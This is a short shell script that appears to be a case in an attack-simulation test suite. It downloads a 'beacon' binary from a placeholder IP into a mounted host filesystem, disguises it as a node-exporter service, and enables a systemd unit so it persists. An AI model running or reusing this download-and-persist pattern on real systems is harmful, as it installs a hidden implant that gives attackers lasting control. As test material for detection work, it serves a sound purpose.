#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/usr/local/sbin /host/etc/systemd/system/multi-user.target.wants
curl -s http://203.0.113.10/programs/beacon -o /host/usr/local/sbin/node-exporterd
chmod 755 /host/usr/local/sbin/node-exporterd
cat >/host/etc/systemd/system/node-exporterd.service <<'END'
[Unit]
Description=Node exporter
[Service]
ExecStart=/usr/local/sbin/node-exporterd
Restart=always
[Install]
WantedBy=multi-user.target
END
ln -s ../node-exporterd.service /host/etc/systemd/system/multi-user.target.wants/
test -x /host/usr/local/sbin/node-exporterd
took_place
